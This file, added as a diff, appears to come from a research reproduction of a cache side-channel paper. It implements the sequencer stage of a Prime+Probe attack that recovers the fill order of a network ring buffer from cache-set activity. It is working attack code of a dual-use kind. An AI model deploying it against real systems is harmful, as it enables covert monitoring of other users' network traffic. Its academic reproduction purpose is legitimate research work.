@@ -1,0 +1,217 @@
+"""Ring-buffer sequence recovery — Algorithm 1 of the paper.
+
+The spy watches a subset of the page-aligned sets while packets stream in,
+then reconstructs the *order* in which the ring's buffers fill:
+
+1. ``GET_CLEAN_SAMPLES`` — probe the monitored sets; sets that appear to
+   miss on (almost) every sample are unusable, so they are swapped for the
+   set holding the buffer's *second* cache block (same buffer, different
+   set index), exactly as the paper prescribes.
+2. ``BUILD_GRAPH`` — a weighted successor graph with **one node of
+   history**: the edge keyed ``(prev, curr) -> cand`` counts how often
+   activity on ``cand`` immediately followed activity on ``curr`` which
+   itself followed ``prev``.  The history disambiguates two buffers that
+   share a cache set (Fig. 9).
+3. ``MAKE_SEQUENCE`` — walk the graph greedily from a root edge, always
+   taking the heaviest unvisited successor, until the walk returns to the
+   root or the edge weight falls below the cutoff.
+
+``recover_full_ring`` repeats the procedure with a sliding window of known
+sets plus one candidate, placing every monitored set into the ring
+(Section III-C: "we repeat the SEQUENCER procedure with the first 31 nodes
+plus a candidate node").
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Callable
+
+from repro.attack.evictionset import EvictionSet
+from repro.attack.primeprobe import ProbeMonitor, SampleTrace
+
+
+@dataclass
+class SequencerConfig:
+    """Tuning parameters (Table I defaults, scaled by experiments)."""
+
+    n_samples: int = 10_000
+    wait_cycles: int = 0
+    #: A set active in more than this fraction of samples is "always miss".
+    activity_cutoff: float = 0.85
+    #: Minimum misses in a sample to count as activity.
+    miss_threshold: int = 1
+    #: Minimum edge weight to keep walking in MAKE_SEQUENCE.
+    weight_cutoff: int = 2
+    #: Maximum clean-sample retries (replacing noisy sets).
+    max_retries: int = 2
+
+
+class Sequencer:
+    """Recovers the fill order of the monitored cache sets."""
+
+    def __init__(
+        self,
+        process,
+        groups: list[EvictionSet],
+        config: SequencerConfig | None = None,
+        replacement_provider: Callable[[int, EvictionSet], EvictionSet | None] | None = None,
+    ) -> None:
+        if len(groups) < 3:
+            raise ValueError("sequencing needs at least 3 monitored sets")
+        self.process = process
+        self.groups = list(groups)
+        self.config = config or SequencerConfig()
+        #: Called with (group_index, eviction_set) when a set is too noisy;
+        #: returns the block-1 replacement set, or None to keep the set.
+        self.replacement_provider = replacement_provider
+
+    # ------------------------------------------------------------------
+    # Step 1: clean samples
+    # ------------------------------------------------------------------
+    def get_clean_samples(self) -> SampleTrace:
+        """Sample the monitor list, replacing always-miss sets."""
+        cfg = self.config
+        for _attempt in range(cfg.max_retries + 1):
+            monitor = ProbeMonitor(self.process, self.groups)
+            trace = monitor.sample(cfg.n_samples, cfg.wait_cycles)
+            noisy = [
+                j
+                for j, fraction in enumerate(trace.activity_fraction())
+                if fraction > cfg.activity_cutoff
+            ]
+            if not noisy or self.replacement_provider is None:
+                return trace
+            replaced_any = False
+            for j in noisy:
+                replacement = self.replacement_provider(j, self.groups[j])
+                if replacement is not None:
+                    self.groups[j] = replacement
+                    replaced_any = True
+            if not replaced_any:
+                return trace
+        return trace
+
+    # ------------------------------------------------------------------
+    # Step 2: successor graph with one-node history
+    # ------------------------------------------------------------------
+    def build_graph(self, trace: SampleTrace) -> dict[tuple[int, int], dict[int, int]]:
+        """graph[(prev, curr)][cand] = observed transition count."""
+        cfg = self.config
+        graph: dict[tuple[int, int], dict[int, int]] = {}
+        prev = curr = 0
+        for row in trace.samples:
+            for cand, misses in enumerate(row):
+                if misses < cfg.miss_threshold:
+                    continue
+                if curr != prev:  # no self-loop context
+                    edge = graph.setdefault((prev, curr), {})
+                    edge[cand] = edge.get(cand, 0) + 1
+                prev, curr = curr, cand
+        return graph
+
+    # ------------------------------------------------------------------
+    # Step 3: greedy traversal
+    # ------------------------------------------------------------------
+    @staticmethod
+    def _get_root(graph: dict[tuple[int, int], dict[int, int]]) -> tuple[int, int]:
+        """Heaviest edge in the graph — a reliable starting context."""
+        best_edge, best_weight = None, -1
+        for edge, successors in graph.items():
+            weight = max(successors.values(), default=0)
+            if weight > best_weight:
+                best_edge, best_weight = edge, weight
+        if best_edge is None:
+            raise RuntimeError("empty transition graph: no activity observed")
+        return best_edge
+
+    def make_sequence(self, graph: dict[tuple[int, int], dict[int, int]]) -> list[int]:
+        """Walk the graph from the root until returning to it."""
+        cfg = self.config
+        root = self._get_root(graph)
+        prev, curr = root
+        sequence: list[int] = []
+        max_steps = 8 * len(self.groups)
+        for _ in range(max_steps):
+            sequence.append(curr)
+            successors = graph.get((prev, curr), {})
+            if not successors:
+                break
+            nxt = max(successors, key=successors.get)
+            weight = successors[nxt]
+            if weight < cfg.weight_cutoff:
+                break
+            successors[nxt] = 0  # mark visited
+            prev, curr = curr, nxt
+            if (prev, curr) == root:
+                break
+        return sequence
+
+    def recover(self) -> tuple[list[int], SampleTrace]:
+        """Full pipeline: samples -> graph -> sequence of group indices."""
+        trace = self.get_clean_samples()
+        graph = self.build_graph(trace)
+        return self.make_sequence(graph), trace
+
+
+def place_candidate(master: list[int], window: list[int], candidate: int) -> list[int]:
+    """Insert ``candidate`` into ``master`` using a recovered ``window``.
+
+    ``window`` is a sequence over known elements plus ``candidate``; the
+    candidate is inserted between the neighbours it was observed between.
+    Returns a new list (master unchanged if the window never placed it).
+    """
+    if candidate not in window:
+        return list(master)
+    pos = window.index(candidate)
+    before = window[pos - 1] if pos > 0 else None
+    after = window[(pos + 1) % len(window)] if len(window) > 1 else None
+    out = list(master)
+    if before is not None:
+        for i, element in enumerate(out):
+            nxt = out[(i + 1) % len(out)] if out else None
+            if element == before and (after is None or nxt == after):
+                out.insert(i + 1, candidate)
+                return out
+        # Fall back: first occurrence of `before`.
+        for i, element in enumerate(out):
+            if element == before:
+                out.insert(i + 1, candidate)
+                return out
+    out.append(candidate)
+    return out
+
+
+def recover_full_ring(
+    process,
+    groups: list[EvictionSet],
+    config: SequencerConfig | None = None,
+    window_size: int = 32,
+    replacement_provider=None,
+) -> list[int]:
+    """Sequence *all* monitored groups by sliding-window extension.
+
+    First recovers the order of the initial ``window_size`` groups, then
+    repeatedly sequences 31 known sets plus one new candidate to place every
+    remaining group (Section III-C).  Returns indices into ``groups``.
+    """
+    config = config or SequencerConfig()
+    if len(groups) <= window_size:
+        sequencer = Sequencer(process, groups, config, replacement_provider)
+        sequence, _trace = sequencer.recover()
+        return sequence
+
+    base = groups[:window_size]
+    sequencer = Sequencer(process, base, config, replacement_provider)
+    master, _trace = sequencer.recover()
+    for cand_idx in range(window_size, len(groups)):
+        known = list(dict.fromkeys(master))[: window_size - 1]
+        window_groups = [groups[i] for i in known] + [groups[cand_idx]]
+        sub = Sequencer(process, window_groups, config, replacement_provider)
+        window_seq, _ = sub.recover()
+        # Translate window-local indices back to master indices.
+        translated = [
+            known[i] if i < len(known) else cand_idx for i in window_seq
+        ]
+        master = place_candidate(master, translated, cand_idx)
+    return master
